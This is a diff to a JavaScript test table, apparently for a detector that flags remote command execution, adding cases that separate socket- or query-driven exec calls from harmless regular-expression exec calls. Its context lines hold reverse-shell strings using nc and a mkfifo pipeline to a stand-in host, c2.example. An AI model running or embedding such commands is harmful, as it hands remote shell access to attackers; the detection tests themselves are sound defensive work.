@@ -77,6 +77,8 @@ testTable({
       ['orders of a socket', "s.on('cmd', (c) => exec(c, (e, out) => s.emit('out', out)))"],
       ['orders of a process', "s.on('data', (d) => { const p = cp.exec(d.toString()); })"],
       ['orders beside an expression', "const re = /x/; s.on('data', (d) => (re.test(d), sh.exec(d)))"],
+      ['orders behind a division', "s.on('data', (d) => 1 / 2 / g.exec(d))"],
+      ['orders of a query', 'const re = /x/; cp.exec(req.query.run)'],
       ['nc', "exec('nc -e /bin/sh c2.example 4444')"],
       ['fifo', "exec('mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc c2.example 1 > /tmp/f')"],
       [
@@ -93,6 +95,7 @@ testTable({
       ],
       ['an expression made', "const $r = new RegExp(x); c.on('data', (d) => { $r.exec(String(d)); })"],
       ['an expression on the spot', "c.on('data', (d) => done(/port (.+)/i.exec(d)))"],
+      ['a name that is asked for', 'const m = /^[\\w.-]+$/.exec(req.query.host)'],
       ['nc to look', "exec('nc -z localhost 80')"],
     ],
   },
